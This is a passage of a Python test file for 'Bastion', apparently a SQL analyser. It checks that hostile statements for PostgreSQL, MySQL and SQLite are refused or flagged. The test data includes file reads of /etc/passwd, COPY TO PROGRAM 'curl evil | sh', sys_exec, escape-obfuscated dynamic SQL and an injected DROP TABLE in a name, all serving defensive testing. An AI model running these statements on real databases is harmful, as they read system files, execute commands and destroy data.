    ("postgresql", "SELECT pg_cancel_backend(1)", "pg_cancel_backend()"),
    ("postgresql", "SELECT pg_reload_conf()", "pg_reload_conf()"),
    ("postgresql", "SELECT pg_rotate_logfile()", "pg_rotate_logfile()"),
    ("postgresql", "SELECT set_config('statement_timeout', '0', false)", "set_config()"),
    ("postgresql", "SELECT pg_promote()", "pg_promote()"),
    ("postgresql", "WITH x AS (SELECT pg_read_file('/x') AS f) SELECT f FROM x", "pg_read_file()"),
    ("postgresql", "SELECT name FROM users WHERE name = upper(pg_read_file('/x'))", "pg_read_file()"),
    ("postgresql", "\\copy users to '/tmp/x'", "psql"),
    ("postgresql", "\\! id", "psql"),
    ("postgresql", "LOAD 'plpgsql'", "LOAD"),
    ("postgresql", "ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM"),
    ("postgresql", "DO $$ BEGIN COPY users TO PROGRAM 'x'; END $$", "COPY"),
    ("postgresql", "DO 'BEGIN EXECUTE ''SELECT pg_read_file(''''/x'''')''; END'", "pg_read_file()"),
    ("postgresql", "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$",
     "pg_read_file()"),
    ("postgresql", "CALL pg_read_file('/x')", "pg_read_file()"),
    # MySQL / MariaDB: files and programs
    ("mysql", "SELECT name FROM users INTO OUTFILE '/tmp/x'", "INTO OUTFILE"),
    ("mysql", "SELECT name INTO DUMPFILE '/tmp/x' FROM users", "INTO OUTFILE"),
    ("mysql", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users", "LOAD"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE users", "LOAD"),
    ("mysql", "LOAD XML INFILE 'x.xml' INTO TABLE users", "LOAD"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "LOAD_FILE()"),
    ("mysql", "SELECT sys_exec('id')", "sys_exec()"),
    ("mysql", "SELECT sys_eval('id')", "sys_eval()"),
    ("mysql", "SELECT 1 /*! , load_file('/etc/passwd') */", "/*!"),
    ("mysql", "INSTALL PLUGIN x SONAME 'x.so'", "INSTALL"),
    ("mysql", "CREATE PROCEDURE p() BEGIN SELECT name FROM users INTO OUTFILE '/x'; END", "INTO OUTFILE"),
    # Dynamic SQL: built at run time, out of Bastion's sight (F7)
    ("mysql", "EXECUTE IMMEDIATE 'SELECT LOAD_FILE(''/etc/hostname'')'", "Dynamic SQL"),
    ("mysql", "EXECUTE IMMEDIATE CONCAT('SELECT ', 'LOAD_FILE(''/x'')')", "Dynamic SQL"),
    ("mysql", "PREPARE s FROM 'SELECT 1'", "Dynamic SQL"),
    ("mysql", "PREPARE s FROM @sql", "Dynamic SQL"),
    ("mysql", "EXECUTE s", "Dynamic SQL"),
    ("mysql", "EXECUTE s USING @a", "Dynamic SQL"),
    ("mysql", "DEALLOCATE PREPARE s", "Dynamic SQL"),
    ("mysql", "DROP PREPARE s", "Dynamic SQL"),
    ("mysql", "CREATE PROCEDURE p() BEGIN PREPARE s FROM @q; EXECUTE s; END", "Dynamic SQL"),
    ("mysql", "CREATE PROCEDURE p() BEGIN EXECUTE IMMEDIATE 'SELECT 1'; END", "Dynamic SQL"),
    ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO EXECUTE IMMEDIATE 'SELECT 1'", "Dynamic SQL"),
    ("postgresql", "PREPARE s AS SELECT password_hash FROM users", "Dynamic SQL"),
    ("postgresql", "PREPARE s (int) AS SELECT $1", "Dynamic SQL"),
    ("postgresql", "EXECUTE s", "Dynamic SQL"),
    ("postgresql", "EXECUTE s (1)", "Dynamic SQL"),
    ("postgresql", "DEALLOCATE ALL", "Dynamic SQL"),
    ("postgresql", "DO $$ DECLARE r text; BEGIN EXECUTE 'CO' || 'PY o FROM PROGRAM ''id -un'''; END $$",
     "Dynamic SQL"),
    ("postgresql", "DO $$ BEGIN EXECUTE format('COPY o FROM PROGRAM %L', 'id'); END $$", "Dynamic SQL"),
    ("postgresql", "DO $$ DECLARE q text := 'COPY o FROM PROGRAM ''id'''; BEGIN EXECUTE q; END $$", "Dynamic SQL"),
    ("postgresql", "DO $$ BEGIN EXECUTE $q$COPY o $q$ || $q$FROM PROGRAM 'id'$q$; END $$", "Dynamic SQL"),
    ("postgresql", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT ' || 'pg_read_file(''/x'')' LOOP "
                   "END LOOP; END $$", "Dynamic SQL"),
    ("postgresql", "DO $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1' || ''; END $$", "Dynamic SQL"),
    ("postgresql", "DO $$ BEGIN PREPARE s AS SELECT 1; END $$", "Dynamic SQL"),
    ("postgresql", "DO 'BEGIN EXECUTE ''CO'' || ''PY o FROM PROGRAM ''''id''''''; END'", "Dynamic SQL"),
    ("postgresql", "CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; END $$",
     "Dynamic SQL"),
    ("postgresql", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'CO' || 'PY x'; END $$",
     "Dynamic SQL"),
    ("postgresql", "DO $$ DECLARE r int; BEGIN EXECUTE 'SELECT 1' INTO r; EXECUTE 'COPY users TO PROGRAM ''x'''; "
                   "END $$", "COPY"),
    # A name or a body spelled with escapes: they are PostgreSQL's to read
    ("postgresql", """SELECT U&"\\0070g_read_file"('/x')""", 'U&"..."'),
    ("postgresql", """SELECT pg_catalog.u&"!0070g_read_file" UESCAPE '!' ('/x')""", 'U&"..."'),
    ("postgresql", """DO $$ BEGIN PERFORM U&"\\0070g_read_file"('/x'); END $$""", 'U&"..."'),
    ("postgresql", "DO E'BEGIN C\\117PY users TO PROGRAM ''id''; END'", "plain"),
    ("postgresql", "DO U&'BEGIN C\\004FPY users TO PROGRAM ''id''; END'", "plain"),
    ("postgresql", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS E'BEGIN RETURN 1; END'", "plain"),
    ("postgresql", "DO $$ BEGIN EXECUTE E'C\\117PY users TO PROGRAM ''id'''; END $$", "Dynamic SQL"),
    # Every dialect: transaction control, session changes, the server itself
    *((dialect, sql, "one transaction") for dialect in ("sqlite", "postgresql", "mysql")
      for sql in ("BEGIN", "COMMIT", "ROLLBACK", "SAVEPOINT a", "RELEASE SAVEPOINT a", "ROLLBACK TO SAVEPOINT a")),
    ("sqlite", "BEGIN IMMEDIATE TRANSACTION", "one transaction"),
    ("sqlite", "END TRANSACTION", "one transaction"),
    ("postgresql", "START TRANSACTION", "one transaction"),
    ("postgresql", "END", "one transaction"),
    ("postgresql", "ABORT", "one transaction"),
    ("postgresql", "SET TRANSACTION READ WRITE", "one transaction"),
    ("postgresql", "PREPARE TRANSACTION 'x'", "one transaction"),
    ("mysql", "START TRANSACTION", "one transaction"),
    ("mysql", "XA START 'x'", "one transaction"),
    ("mysql", "SET autocommit = 1", "one transaction"),
    ("mysql", "LOCK TABLES users WRITE", "one transaction"),
    ("postgresql", "SET statement_timeout = 0", "SET, RESET and USE"),
    ("postgresql", "SET LOCAL statement_timeout = 0", "SET, RESET and USE"),
    ("postgresql", "RESET ALL", "SET, RESET and USE"),
    ("postgresql", "SET ROLE postgres", "SET, RESET and USE"),
    ("postgresql", "SET SESSION AUTHORIZATION postgres", "SET, RESET and USE"),
    ("postgresql", "SET search_path TO evil", "SET, RESET and USE"),
    ("mysql", "SET @@session.max_execution_time = 0", "SET, RESET and USE"),
    ("mysql", "SET GLOBAL max_connections = 1", "SET, RESET and USE"),
    ("mysql", "USE other", "SET, RESET and USE"),
    ("mysql", "SHUTDOWN", "SHUTDOWN"),
    ("mysql", "KILL 42", "KILL"),
    ("mysql", "KILL QUERY 42", "KILL"),
]


@pytest.mark.parametrize(("dialect", "sql", "reason"), FORBIDDEN)
def test_T21_what_nobody_may_run_is_forbidden(dialect, sql, reason):
    assert reason in (one(sql, dialect).forbidden or "")


@pytest.mark.parametrize(("dialect", "sql"), [
    ("sqlite", "ATTACH '/tmp/x.db' AS x"),
    ("sqlite", "VACUUM INTO '/tmp/y'"),
    ("sqlite", "SELECT load_extension('x')"),
    ("sqlite", "PRAGMA writable_schema=1"),
])
def test_T22_sqlite_file_access_is_forbidden(dialect, sql):
    statement = one(sql, dialect)
    assert statement.forbidden
    assert statement.kind in (Kind.OTHER, Kind.READ)


@pytest.mark.parametrize("levels", range(1, 8))
def test_T21_sql_nested_in_strings_is_followed_or_refused_however_deep(levels):
    """DO inside EXECUTE '...' inside DO ...: past the depth Bastion follows, the statement is refused."""
    def quoted(sql: str) -> str:
        return "'" + sql.replace("'", "''") + "'"

    sql = "COPY users TO PROGRAM 'id'"
    for _ in range(levels):
        sql = f"DO {quoted(f'BEGIN EXECUTE {quoted(sql)}; END')}"
    assert one(sql).forbidden


def test_T21_copy_to_program_is_forbidden():
    assert "COPY" in one("COPY users TO PROGRAM 'curl evil | sh'").forbidden


def test_T21_pg_read_file_is_forbidden():
    assert "pg_read_file()" in one("SELECT pg_read_file('/etc/passwd')").forbidden


def test_T21_into_outfile_and_load_data_local_are_forbidden():
    assert "INTO OUTFILE" in one("SELECT name FROM users INTO OUTFILE '/tmp/x'", "mysql").forbidden
    assert "LOAD" in one("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE users", "mysql").forbidden


def test_T21_a_forbidden_statement_does_not_hide_in_a_script():
    results = statements("SELECT 1; SELECT 'x;'; ATTACH '/tmp/x.db' AS x; SELECT 2", "sqlite")
    assert [bool(s.forbidden) for s in results] == [False, False, True, False]


@pytest.mark.parametrize(("dialect", "sql"), [
    ("sqlite", "PRAGMA table_info(users)"),
    ("sqlite", "PRAGMA main.index_list('users')"),
    ("sqlite", "PRAGMA user_version"),
    ("postgresql", "SELECT 'pg_read_file(''/x'')' FROM users"),
    ("postgresql", "SELECT name AS copy FROM users"),
    ("postgresql", "SELECT id FROM users ORDER BY name FOR UPDATE"),
    ("postgresql", "UPDATE users SET name = 'SET x; COMMIT'"),
    ("mysql", "SELECT id INTO @v FROM users"),
    ("postgresql", "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$"),
    ("postgresql", "DO $$ DECLARE r int; BEGIN EXECUTE 'SELECT 1' INTO r; END $$"),
    ("postgresql", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$"),
    ("postgresql", "DO $$ BEGIN EXECUTE $q$SELECT 1$q$ USING 1; END $$"),
    ("postgresql", "DO $$ BEGIN GRANT EXECUTE ON FUNCTION f() TO bob; END $$"),
    ("postgresql", "CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()"),
    ("postgresql", "CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE PROCEDURE f()"),
    ("postgresql", "GRANT EXECUTE ON FUNCTION f() TO bob"),
    ("postgresql", "SELECT 'EXECUTE s', 'PREPARE x AS SELECT 1' FROM users"),
    ("postgresql", "SELECT name AS execute FROM users"),
    ("postgresql", 'SELECT id & "id" FROM users'),
    ("postgresql", 'SELECT u & "id" FROM users u'),
    ("mysql", "SELECT 1 /*+ MAX_EXECUTION_TIME(100) */"),
    ("mysql", "INSERT INTO orders (note) VALUES ('/*! not a comment */')"),
])
def test_T21_look_alikes_are_not_forbidden(dialect, sql):
    assert one(sql, dialect).forbidden is None


# --- Output names that shadow table columns (T31) ----------------------------------------------

@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS int)"),
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY CASE WHEN password_hash LIKE 'a%' THEN 0 END"),
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash || ''"),
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY (password_hash)"),
    ("postgresql", 'SELECT name AS password_hash FROM users ORDER BY password_hash COLLATE "C"'),
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY id, length(password_hash) DESC"),
    ("postgresql", "SELECT DISTINCT ON (CAST(password_hash AS int)) name AS password_hash FROM users"),
    ("postgresql", "SELECT name AS password_hash FROM users GROUP BY password_hash"),
    ("postgresql", "SELECT max(name) AS password_hash FROM users GROUP BY id HAVING max(password_hash) > ''"),
    ("postgresql", "SELECT u.name AS password_hash FROM users u ORDER BY upper(password_hash)"),
    ("postgresql", "SELECT name AS password_hash FROM users WHERE id IN "
                   "(SELECT id AS password_hash FROM users ORDER BY password_hash || '' LIMIT 1)"),
    ("mysql", "SELECT name AS password_hash FROM users ORDER BY CASE WHEN password_hash LIKE 'a%' THEN 0 END"),
    ("mysql", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS DECIMAL) + 1"),
    ("mysql", "SELECT name AS PASSWORD_HASH FROM users ORDER BY CONCAT(password_hash, '')"),
    ("mysql", "SELECT name AS password_hash FROM users GROUP BY password_hash"),
    ("mysql", "SELECT name AS password_hash FROM users HAVING password_hash LIKE 'a%'"),
    ("sqlite", "SELECT name AS password_hash FROM users ORDER BY CAST(password_hash AS int)"),
])
def test_T31_a_shadowed_name_in_an_ordering_expression_reads_the_table_column(dialect, sql):
    """F2: PostgreSQL (and MariaDB) read the table column, not the output, inside an ORDER BY expression."""
    statement = one(sql, dialect)
    assert statement.problem is None
    assert "password_hash" in statement.reads[USERS]


@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
    ("postgresql", "SELECT name AS password_hash FROM users ORDER BY password_hash DESC NULLS LAST"),
    ("postgresql", "SELECT DISTINCT ON (password_hash) name AS password_hash FROM users"),
    ("mysql", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
    ("sqlite", "SELECT name AS password_hash FROM users ORDER BY password_hash"),
])
def test_T31_a_bare_ordering_name_means_the_output(dialect, sql):
    """Every engine resolves a bare ORDER BY name to the output column first."""
    statement = one(sql, dialect)
    assert statement.problem is None
    assert statement.reads == {USERS: frozenset({"name"})}


@pytest.mark.parametrize(("dialect", "sql", "reads"), [
    ("mysql", "SELECT name AS n FROM users ORDER BY CONCAT(n, '')", {"name"}),
    ("postgresql", "SELECT count(*) AS c FROM orders GROUP BY user_id ORDER BY c + 1", {"user_id"}),
    ("postgresql", "SELECT o.total AS total FROM orders o ORDER BY total * 2", {"total"}),
])
def test_T31_an_output_name_no_table_has_stays_the_output(dialect, sql, reads):
    statement = one(sql, dialect)
    assert statement.problem is None
    assert set().union(*statement.reads.values()) == reads


def test_T31_a_view_ordering_by_a_shadowed_name_reads_the_column():
    statement = one("SELECT hash FROM ordered_names")
    assert "password_hash" in statement.via_views[USERS]


# --- Functions (T21, T31) ---------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "SELECT query_to_xml('SELECT password_hash FROM users', true, true, '')",
    "SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')",
    "SELECT query_to_xmlschema('SELECT 1', true, true, '')",
    "SELECT table_to_xml('users', true, true, '')",
    "SELECT table_to_xmlschema('users', true, true, '')",
    "SELECT table_to_xml_and_xmlschema('users', true, true, '')",
    "SELECT schema_to_xml('public', true, true, '')",
    "SELECT schema_to_xml_and_xmlschema('public', true, true, '')",
    "SELECT database_to_xml(true, true, '')",
    "SELECT database_to_xmlschema(true, true, '')",
    "SELECT cursor_to_xml('c', 1, true, true, '')",
    "SELECT * FROM ts_stat('SELECT to_tsvector(password_hash) FROM users')",
    "SELECT ts_rewrite(to_tsquery('x'), 'SELECT to_tsquery(password_hash), to_tsquery(''y'') FROM users')",
    "SELECT pg_catalog.query_to_xml('SELECT 1', true, true, '')",
    """SELECT "query_to_xml"('SELECT 1', true, true, '')""",
    "SELECT xpath('/x', query_to_xml('SELECT 1', true, true, ''))",
    "SELECT name FROM users WHERE length(query_to_xml('SELECT 1', true, true, '')::text) > 0",
    "CREATE VIEW v AS SELECT query_to_xml('SELECT 1', true, true, '')",
])
def test_T21_functions_that_run_sql_given_as_text_are_forbidden(sql):
    """F1: the SQL in their string argument, or the table they are given by name, is never analysed."""
    assert "runs SQL given to it as text" in (one(sql).forbidden or "")


@pytest.mark.parametrize("sql", [
    "SELECT pg_stat_get_activity(NULL)",
    "SELECT * FROM pg_stat_get_activity(NULL)",
    "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
    "SELECT pg_catalog.pg_stat_get_backend_pid(1)",
])
def test_T21_functions_showing_other_sessions_sql_are_forbidden(sql):
    assert "other sessions" in (one(sql).forbidden or "")


def test_T21_a_function_running_sql_given_as_text_is_forbidden_inside_a_body():
    sql = "CREATE FUNCTION f() RETURNS xml LANGUAGE sql AS $$ SELECT query_to_xml('SELECT 1', true, true, '') $$"
    assert "runs SQL given to it as text" in (one(sql).forbidden or "")


@pytest.mark.parametrize(("dialect", "sql", "name"), [
    ("postgresql", "SELECT my_func(id) FROM users", "my_func"),
    ("postgresql", "SELECT name FROM users WHERE my_func(id)", "my_func"),
    ("postgresql", "SELECT public.my_func(1)", "public.my_func"),
    ("postgresql", "SELECT public.upper('x')", "public.upper"),
    ("postgresql", 'SELECT "Upper"(name) FROM users', "Upper"),
    ("postgresql", 'SELECT "UPPER"(name) FROM users', "UPPER"),
    ("postgresql", """SELECT "Format"('%s', 1)""", "Format"),
    ("postgresql", "SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
    ("postgresql", "SELECT pg_notify('c', 'x')", "pg_notify"),
    ("postgresql", "SELECT to_regclass('users')", "to_regclass"),
    ("postgresql", "UPDATE users SET name = my_func(name)", "my_func"),
    ("postgresql", "INSERT INTO orders (note) SELECT my_func(1)", "my_func"),
    ("postgresql", "CREATE TABLE n (a int DEFAULT my_func())", "my_func"),
    ("postgresql", "CREATE INDEX i ON users (my_func(name))", "my_func"),
    ("mysql", "SELECT my_func(id) FROM users", "my_func"),
    ("mysql", "SELECT db.upper('x')", "db.upper"),
    ("mysql", "SELECT GET_LOCK('x', 1)", "GET_LOCK"),
    ("mysql", "SELECT LAST_INSERT_ID(5)", "LAST_INSERT_ID"),
    ("sqlite", "SELECT my_func(id) FROM users", "my_func"),
])
def test_T31_a_function_bastion_does_not_know_makes_the_statement_unverified(dialect, sql, name):
    """A user-defined function runs any SQL it likes with the login's rights."""
    statement = one(sql, dialect)
    assert statement.problem == f'Bastion cannot check what the function "{name}" does.'
    assert statement.forbidden is None


@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgresql", "SELECT pg_sleep(0.1), version(), current_setting('TimeZone'), pg_typeof(id), gen_random_uuid() "
                   "FROM users"),
    ("postgresql", "SELECT format('%s-%s', name, email), concat_ws(',', name, email), lpad(name, 10), "
                   "split_part(email, '@', 2), regexp_replace(name, 'a', 'b'), regexp_matches(name, 'a') FROM users"),
    ("postgresql", "SELECT jsonb_build_object('n', name), json_build_array(id, name), to_jsonb(name), "
                   "jsonb_agg(name), row_to_json(ROW(id, name)) FROM users GROUP BY id"),
    ("postgresql", "SELECT date_trunc('day', now()), age(now()), to_char(now(), 'YYYY'), make_date(2020, 1, 1), "
                   "clock_timestamp(), extract(year FROM now())"),
    ("postgresql", "SELECT array_upper(ARRAY[1], 1), cardinality(ARRAY[1]), array_to_string(ARRAY[1], ','), "
                   "unnest(ARRAY[1]), string_agg(name, ',') FROM users"),
    ("postgresql", "SELECT ts_rank(to_tsvector('simple', name), plainto_tsquery('simple', 'x')) FROM users"),
    ("postgresql", "SELECT currval('s'), lastval(), quote_ident(name), pg_column_size(name) FROM users"),
    ("postgresql", "SELECT pg_catalog.upper(name), pg_catalog.lower(email), PG_CATALOG.jsonb_build_object('a', 1) "
                   "FROM users"),
    ("postgresql", """SELECT "upper"(name), "format"('%s', 1) FROM users"""),
    ("postgresql", "SELECT count(*), sum(total), avg(total), row_number() OVER (ORDER BY id) FROM orders GROUP BY id"),
    ("postgresql", "SELECT int4range(1, 5), isempty(int4range(1, 1)), point(1, 2)"),
    ("postgresql", "INSERT INTO users (id, name) VALUES (1, upper('x')) ON CONFLICT (id) DO NOTHING"),
    ("postgresql", "CREATE TABLE n (id uuid DEFAULT gen_random_uuid(), at timestamptz DEFAULT now())"),
    ("mysql", "SELECT SLEEP(0), VERSION(), DATABASE(), NOW(), IFNULL(name, ''), CONCAT_WS(',', name, email), "
              "LPAD(name, 3, ' '), INSTR(name, 'a'), DATE_FORMAT(NOW(), '%Y'), JSON_OBJECT('n', name) FROM users"),
    ("mysql", "SELECT JSON_UNQUOTE(JSON_EXTRACT(name, '$')), JSON_ARRAYAGG(id), FIND_IN_SET('a', name), "
              "UNIX_TIMESTAMP(), LAST_INSERT_ID(), ROW_COUNT(), USER(), REGEXP_REPLACE(name, 'a', 'b') FROM users"),
    ("mysql", "INSERT INTO users (id, name) VALUES (1, 'a') ON DUPLICATE KEY UPDATE name = VALUES(name)"),
    ("mysql", "VALUES ROW(1, 2)"),
    ("sqlite", "SELECT typeof(id), printf('%d', id), ifnull(name, ''), instr(name, 'a'), julianday('now'), "
               "strftime('%Y', 'now'), datetime('now'), date('now'), time('now'), json_object('n', name), "
               "json_array(id), quote(name), total(id), changes(), last_insert_rowid() FROM users GROUP BY id"),
])
def test_T31_common_built_ins_keep_a_statement_verified(dialect, sql):
    statement = one(sql, dialect)
    assert statement.problem is None
    assert statement.forbidden is None


def test_T31_a_view_calling_a_function_bastion_does_not_know_is_a_problem():
    assert one("SELECT id FROM calls_f").problem == (
        'Bastion cannot analyse the definition of view "calls_f": Bastion cannot check what the function "my_func" '
        "does.")


def test_T31_a_view_running_sql_given_as_text_is_a_problem():
    statement = one("SELECT id FROM xml_dump")
    assert statement.forbidden is None  # the user did not write it; the view's owner did
    assert "runs SQL given to it as text" in statement.problem


@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgresql", "SELECT setval('users_id_seq', 100)"),
    ("postgresql", "SELECT nextval('users_id_seq')"),
    ("postgresql", "SELECT pg_catalog.setval('users_id_seq', 1)"),
    ("postgresql", "SELECT NEXTVAL('users_id_seq')"),
    ("postgresql", "INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))"),
    ("postgresql", "SELECT name FROM users WHERE id = nextval('s')"),
    ("mysql", "SELECT NEXTVAL(s)"),
    ("mysql", "SELECT SETVAL(s, 10)"),
])
def test_T21_changing_a_sequence_is_a_problem(dialect, sql):
    """F6: a sequence stays changed after the rollback of a run; it is no read."""
    statement = one(sql, dialect)
    assert "changes a sequence" in statement.problem
    assert statement.forbidden is None


@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgresql", "SELECT id FROM users FOR UPDATE"),
    ("postgresql", "SELECT id FROM users FOR SHARE"),
    ("postgresql", "SELECT id FROM users FOR NO KEY UPDATE"),
    ("postgresql", "SELECT id FROM users FOR KEY SHARE"),
    ("postgresql", "SELECT id FROM users FOR UPDATE OF users SKIP LOCKED"),
    ("postgresql", "SELECT name FROM users WHERE id IN (SELECT user_id FROM orders FOR UPDATE)"),
    ("mysql", "SELECT id FROM users FOR UPDATE"),
    ("mysql", "SELECT id FROM users LOCK IN SHARE MODE"),
    ("mysql", "SELECT id FROM users FOR SHARE"),
])
def test_T21_locking_rows_is_a_problem(dialect, sql):
    """F6: locking the rows it reads is more than a read grant allows."""
    statement = one(sql, dialect)
    assert statement.kind == Kind.READ
    assert "lock the rows they read" in statement.problem


def test_a_locking_read_still_finds_its_reads():
    assert one("SELECT name FROM users WHERE id = 1 FOR UPDATE").reads == {USERS: frozenset({"name", "id"})}


# --- Hostile names ----------------------------------------------------------------------------

@pytest.mark.parametrize(("dialect", "sql", "reads"), [
    ("postgresql", 'SELECT "a b", "select", "🔑" FROM "x""; DROP TABLE t; --"',
     {TableRef(None, 'x"; DROP TABLE t; --'): {"a b", "select", "🔑"}}),
    ("sqlite", 'SELECT [a b], "select" FROM [x"; DROP TABLE t; --]',
     {TableRef(None, 'x"; DROP TABLE t; --'): {"a b", "select"}}),
    ("postgresql", 'SELECT * FROM "😀"', {TableRef(None, "😀"): {"🔑"}}),
    ("mysql", "SELECT `c]d` FROM `a``b`", {TableRef(None, "a`b"): {"c]d"}}),
    ("mysql", "SELECT `C]D` FROM `A``B`", {TableRef(None, "a`b"): {"c]d"}}),
])
def test_hostile_names_are_read_as_names(dialect, sql, reads):
    (statement,) = statements(sql, dialect)
    assert statement.problem is None
    assert statement.forbidden is None
    assert statement.reads == {table: frozenset(columns) for table, columns in reads.items()}


def test_hostile_name_does_not_split_the_script():
    script = 'SELECT "select" FROM "x""; DROP TABLE t; --"; SELECT 1'
    assert [text for _, text in split_script(script, "postgresql")] == [
        'SELECT "select" FROM "x""; DROP TABLE t; --"', "SELECT 1"]


# --- Size -------------------------------------------------------------------------------------

def test_a_thousand_statements_are_analysed():
    script = ";\n".join(f"SELECT name FROM users WHERE id = {n}" for n in range(1000))
    results = statements(script)
    assert len(results) == 1000
    assert all(s.verified and s.reads == {USERS: frozenset({"name", "id"})} for s in results)


@pytest.mark.parametrize("sql", [
    "INSERT INTO orders (user_id, note) VALUES " + ", ".join(f"({n}, 'note {n}')" for n in range(6000)),
    "SELECT id FROM users WHERE " + " OR ".join(f"(id = {n} AND name = 'x')" for n in range(3500)),
    "SELECT " + " + ".join("id" for _ in range(20000)) + " FROM users",
])
def test_a_100_kb_statement_is_analysed(sql):
    assert len(sql) > 100_000
    statement = one(sql)
    assert statement.verified


def test_a_statement_nested_too_deeply_is_a_problem_not_a_crash():
    assert not one("SELECT " + "(" * 5000 + "1" + ")" * 5000).verified
    assert "too deeply" in one("SELECT id" + "::int" * 20000 + " FROM users").problem
